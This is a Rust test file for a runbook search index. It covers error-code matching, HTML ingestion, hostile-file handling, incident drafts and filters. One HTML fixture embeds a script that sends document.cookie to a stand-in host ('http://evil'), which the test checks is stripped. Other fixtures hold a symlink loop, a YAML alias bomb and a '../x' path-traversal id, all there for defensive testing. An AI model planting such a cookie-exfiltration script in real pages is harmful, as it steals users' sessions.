//! Kinds of documents: tables of codes, HTML, PDF, drafts of incidents; and what may not be read of them.

use medic_knowledge::{DRAFTS, Drafts, IncidentDraft, Kind, Report, SearchQuery};

use crate::house::{House, ask, paths};

#[tokio::test]
async fn an_exact_code_finds_its_entry_first_in_a_log_line_too() {
    let house = House::furnished();
    let rows: String =
        (0..300).map(|n| format!("PAY-{n:04},payment failure number {n},see the ledger\n")).collect();
    house.write("codes.csv", &format!("code,meaning,remedy\n{rows}"));
    house.write(
        "http.yaml",
        "codes:\n  503: the gateway has no healthy upstream\n  504: the gateway waited too long\n",
    );
    house.write("oracle.md", "---\nkind: error-code\n---\n# Oracle\n\n| Code | Meaning |\n|---|---|\n| ORA-01555 | snapshot too old |\n| ORA-00060 | deadlock detected |\n");
    let knowledge = house.open().await;
    let report = house.ingest(&knowledge).await;
    assert_eq!((report.broken.len(), report.added.len()), (0, 6));
    for (question, path, entry) in [
        ("PAY-0217", "codes.csv", "payment failure number 217"),
        (
            "2026-01-01T00:00:00Z ERROR checkout [pay-0042] cannot charge",
            "codes.csv",
            "payment failure number 42",
        ),
        ("java.sql.SQLException: ORA-01555: memory and disk pressure", "oracle.md", "snapshot too old"),
        ("upstream answered status=503", "http.yaml", "no healthy upstream"),
    ] {
        let answer = ask(&knowledge, question).await;
        let hit = &answer.hits[0];
        assert_eq!(
            (hit.path.as_str(), hit.kind, answer.insufficient),
            (path, Kind::ErrorCode, None),
            "{question}"
        );
        assert!(hit.passage.text.contains(entry) && hit.why.code.is_some(), "{question}: {:?}", hit.passage);
    }
    // A number that is a measure, and a code that is in no table, are no codes.
    assert!(
        ask(&knowledge, "the disk is full since 503 seconds")
            .await
            .hits
            .iter()
            .all(|hit| hit.why.code.is_none())
    );
    assert!(ask(&knowledge, "PAY-9999").await.hits.iter().all(|hit| hit.why.code.is_none()));
}

#[tokio::test]
async fn html_is_text_without_its_scripts_and_a_citation_lies_in_what_is_kept() {
    let house = House::furnished();
    house.write(
        "gateway.html",
        "<html><head><title>Gateway melts</title></head><body><h1>Gateway melts</h1><h2>Remedy</h2><p>Pour cold water on the gateway.</p>\
         <script>fetch('http://evil/?'+document.cookie)</script></body></html>",
    );
    let knowledge = house.open().await;
    house.ingest(&knowledge).await;
    let answer = ask(&knowledge, "pour cold water on the gateway").await;
    let hit = &answer.hits[0];
    assert_eq!((hit.path.as_str(), hit.title.as_str()), ("gateway.html", "Gateway melts"));
    assert_eq!(hit.passage.heading_path, ["Gateway melts", "Remedy"]);
    let document = knowledge.document(&hit.document).unwrap();
    assert_eq!(&document.text[hit.passage.bytes.clone()], hit.passage.text);
    assert!(!document.text.contains("evil"));
}

#[tokio::test]
async fn hostile_files_are_reported_and_the_rest_answers() {
    let house = House::furnished();
    house.write("deep.html", &"<div>".repeat(50_000));
    house.write("laughs.yaml", "a: &a [x]\nerrors: [*a, *a]\n");
    house.write("fake.pdf", "MZ not a PDF");
    std::fs::File::create(house.runbooks.path().join("dump.md")).unwrap().set_len(50 << 20).unwrap();
    std::os::unix::fs::symlink(house.runbooks.path(), house.runbooks.path().join("again")).unwrap();
    let knowledge = house.open().await;
    let report = house.ingest(&knowledge).await;
    let broken: Vec<&str> = report.broken.iter().map(|broken| broken.path.as_str()).collect();
    assert_eq!(broken, ["again", "deep.html", "dump.md", "fake.pdf", "laughs.yaml"]);
    assert!(report.broken.iter().all(|broken| !broken.reason.is_empty()));
    assert_eq!(paths(&ask(&knowledge, "the disk is full").await)[0], "disk.md");
}

#[tokio::test]
async fn a_draft_stands_below_every_reviewed_document_unless_it_is_asked_for() {
    let house = House::furnished();
    let knowledge = house.open().await;
    house.ingest(&knowledge).await;
    let draft = IncidentDraft {
        id: "01J".to_owned(),
        title: "Disk of the store full of core dumps".to_owned(),
        date: "2026-03-01".to_owned(),
        services: vec!["store".to_owned()],
        alerts: vec!["CoreDumpsEverywhere".to_owned()],
        category: Some("storage-full".to_owned()),
        report: Report {
            symptoms: "the disk of the store is full of core dumps".to_owned(),
            cause: "the store crashes and dumps its memory on the disk".to_owned(),
            remedy: "delete the core dumps on the disk".to_owned(),
        },
    };
    let kept = knowledge.keep_draft(&draft).await.unwrap();
    assert_eq!((kept.source.as_str(), kept.added.len(), kept.documents), (DRAFTS, 1, 4));
    let question = "the disk of the store is full of core dumps";
    let ask_with = async |drafts: Drafts| {
        let query = SearchQuery { text: question.to_owned(), drafts, ..SearchQuery::default() };
        knowledge.search(&query).await.unwrap()
    };
    let below = ask_with(Drafts::Below).await;
    assert_eq!(paths(&below)[0], "disk.md");
    let place = below.hits.iter().position(|hit| !hit.reviewed).unwrap();
    assert!(below.hits[place..].iter().all(|hit| !hit.reviewed));
    let among = ask_with(Drafts::Among).await;
    assert_eq!((paths(&among)[0], among.hits[0].reviewed), ("01J.md", false));
    assert_eq!(among.hits[0].report.as_ref(), Some(&draft.report));
    assert!(ask_with(Drafts::None).await.hits.iter().all(|hit| hit.reviewed));
    // A draft alone is never a reason to call an answer sufficient.
    let only = ask(&knowledge, "alertname=CoreDumpsEverywhere core dumps").await;
    assert!(only.insufficient.is_some(), "{only:?}");
    // The same incident again replaces its draft; another one stands beside it; a directory's ingest leaves both.
    assert!(!knowledge.keep_draft(&draft).await.unwrap().published);
    knowledge.keep_draft(&IncidentDraft { id: "02J".to_owned(), ..draft.clone() }).await.unwrap();
    house.ingest(&knowledge).await;
    assert_eq!(knowledge.stats().sources[DRAFTS], 2);
    assert_eq!(
        knowledge.keep_draft(&IncidentDraft { id: "../x".to_owned(), ..draft }).await.unwrap_err().code(),
        "KNOWLEDGE_DRAFT"
    );
}

#[tokio::test]
async fn source_and_age_narrow_an_answer_and_a_document_without_a_day_stays() {
    let house = House::furnished();
    house.write("old.md", "---\ndate: 2020-01-01\n---\n# Disk full long ago\n\nThe disk was full.\n");
    house.write("young.md", "---\ndate: 2026-01-01\n---\n# Disk full lately\n\nThe disk was full again.\n");
    let knowledge = house.open().await;
    let source = house.ingest(&knowledge).await.source;
    let text = "the disk is full".to_owned();
    let query = SearchQuery { text, since: Some("2025-06-01".to_owned()), ..SearchQuery::default() };
    let answer = knowledge.search(&query).await.unwrap();
    let found = paths(&answer);
    assert!(
        found.contains(&"young.md") && found.contains(&"disk.md") && !found.contains(&"old.md"),
        "{found:?}"
    );
    let query = SearchQuery { since: None, source: Some("elsewhere".to_owned()), ..query };
    assert!(knowledge.search(&query).await.unwrap().hits.is_empty());
    let query = SearchQuery { source: Some(source), ..query };
    assert!(!knowledge.search(&query).await.unwrap().hits.is_empty());
}
